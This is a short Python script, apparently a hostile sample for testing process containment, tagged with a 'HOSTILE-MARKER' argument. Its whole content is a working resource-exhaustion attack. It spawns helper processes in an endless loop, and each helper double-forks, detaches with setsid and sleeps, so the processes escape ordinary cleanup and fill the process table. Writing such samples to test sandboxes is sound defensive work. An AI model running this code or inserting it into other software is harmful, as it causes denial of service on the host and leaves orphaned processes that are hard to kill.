# Hostile: starts helpers without end; each double-forks, leaves its session and sleeps.
import subprocess
import sys

HELPER = 'import os, time\nif os.fork():\n    os._exit(0)\nos.setsid()\ntime.sleep(600)\n'
while True:
    subprocess.Popen([sys.executable, '-c', HELPER, 'HOSTILE-MARKER'])
